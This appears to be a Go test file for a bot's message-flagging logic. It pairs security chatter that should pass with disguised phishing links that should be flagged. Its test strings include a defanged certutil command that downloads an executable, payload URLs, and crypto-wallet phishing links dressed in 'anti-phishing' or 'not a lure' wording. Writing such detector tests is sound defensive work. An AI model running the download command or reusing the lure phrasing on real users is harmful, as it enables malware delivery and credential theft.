package bot_test

import "testing"

// TestSecurityTalkNamesTakedownsAndTools: security talk tells of pages
// taken down or put on hold, calls a scam a lure, and names what an
// intrusion ran (certutil, mshta, rundll32, ClickFix) or where a
// detection is written (KQL, an RPZ), or how it refangs. Its defanged
// links are quoted, not judged;
// each of these was flagged on 7456297.
func TestSecurityTalkNamesTakedownsAndTools(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"netcraft took down hxxps://coinbase-pro-signin[.]net within the hour", false},
		{"tucows took down fedex-delivery-updates[.]com an hour after the report, nice", false},
		{"found `certutil -urlcache -split -f hxxp://23.94.55[.]120/s.exe` on two boxes in the lab subnet", false},
		{"\"This domain has been put on clientHold\" -- hxxps://amex-card-service[.]net finally dead", false},
		{"openphish added hxxps://instagram-copyright-appeals[.]com/form, the copyright lure is huge right now", false},
		{"added a DNS RPZ entry for *.web3-airdrop-claims[.]xyz", false},
		{"ClickFix page on hxxps://captcha-human-check[.]online this morning", false},
		{"the ticket keeps hxxp://81.19.140[.]5/ld.exe as written, the observable field refangs it", false},
	})
}

// TestGuardedThreatWordsNameNoThreat: a threat's name made a guard
// against it ("anti-phishing", "phishing-free", "scam-proof") or denied
// ("not a lure") names no threat, and a defanged page beside it is
// judged. The first was allowed on 7456297 (145 of 145 such built
// lines with training phish URLs).
func TestGuardedThreatWordsNameNoThreat(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"hxxps://metamask-wallet-sync[.]app/login (anti-phishing verification, takes 1 minute)", true},
		{"phishing-free airdrop portal: hxxps://metamask-wallet-sync[.]app/login", true},
		{"airdrop for early users at hxxps://metamask-wallet-sync[.]app/login, not a lure", true},
		{"scam-proof giveaway, hxxps://metamask-wallet-sync[.]app/login", true},
	})
}
